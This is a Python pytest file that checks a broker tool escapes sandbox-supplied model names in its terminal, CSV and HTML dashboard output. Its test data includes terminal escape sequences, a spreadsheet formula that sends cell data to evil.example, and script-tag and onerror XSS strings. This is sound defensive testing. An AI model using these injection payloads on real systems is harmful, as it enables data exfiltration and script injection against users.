"""What a sandbox names reaches the host's terminal, spreadsheet and browser inert: `usage`
escapes control and bidi characters, `usage --csv` quotes formula cells, the dashboard
escapes HTML."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from broker.cli import main
from broker.common.untrusted_text import for_csv, for_terminal
from broker.usage.ledger import Ledger
from broker.usage.report import UsageRecord
from tests.integration.test_dashboard import get, login
from tests.integration.test_proxy import REQUEST, call

HOSTILE = "claude\x1b]0;PWNED\x07\x1b[2J\x00\u202egnp.exe\x9b\u2066x\u2028"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
RAW = ("\x1b", "\x07", "\x00", "\u202e", "\x9b", "\u2066", "\u2028")


def _ledger(tmp_path: Path, models: list[str]) -> list[str]:
    state = tmp_path / "state"
    ledger = Ledger(state / "usage.db")
    ledger.start()
    import time

    for model in models:
        ledger.record(UsageRecord(time=time.time(), sandbox="box", model=model, status=200, latency_ms=1.0,
                                  input_tokens=1, client=model))
    assert ledger.flush()
    ledger.close()
    config = tmp_path / "config.yaml"
    config.write_text(f'state_dir: "{state}"\n')
    return ["--config", str(config)]


@pytest.mark.parametrize("by", ["model", "client"])
def test_usage_on_a_terminal_shows_controls_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str], by: str) -> None:
    cfg = _ledger(tmp_path, [HOSTILE])
    assert main([*cfg, "usage", "--by", by]) == 0
    out = capsys.readouterr().out
    assert not any(ch in out for ch in RAW), repr(out)
    assert "claude\\x1b]0;PWNED" in out


def test_usage_csv_cells_are_never_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cfg = _ledger(tmp_path, [*FORMULAS, HOSTILE])
    for by in ("model", "client"):
        assert main([*cfg, "usage", "--by", by, "--csv"]) == 0
        out = capsys.readouterr().out
        assert not any(ch in out for ch in RAW)
        cells = [row[by] for row in csv.DictReader(io.StringIO(out))]
        assert len(cells) == len(FORMULAS) + 1
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells


def test_json_keeps_names_as_json_escapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cfg = _ledger(tmp_path, [HOSTILE])
    assert main([*cfg, "usage", "--by", "model", "--json"]) == 0
    out = capsys.readouterr().out
    assert not any(ch in out for ch in RAW)
    assert json.loads(out)["rows"][0]["model"] == HOSTILE  # the data itself, for programs


def test_the_helpers() -> None:
    assert for_terminal("claude-sonnet-4-6") == "claude-sonnet-4-6"
    assert for_terminal("a\x1bb\u202ec") == "a\\x1bb\\u202ec"
    assert for_csv("=1+1") == "'=1+1" and for_csv("\t=1") == "'\\t=1" and for_csv("x=1") == "x=1"


async def test_the_dashboard_escapes_what_a_sandbox_names(make_broker) -> None:
    b = await make_broker()
    key = await b.add_sandbox("box")
    model = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    assert (await call(b, key=key, body=json.dumps({**REQUEST, "model": model}).encode()))[0] == 200
    await b.service.handle_control({"op": "usage_flush"})
    base, sid = await login(b)
    status, _, page = await get(base + "/?range=24h", cookie=sid)
    assert status == 200
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
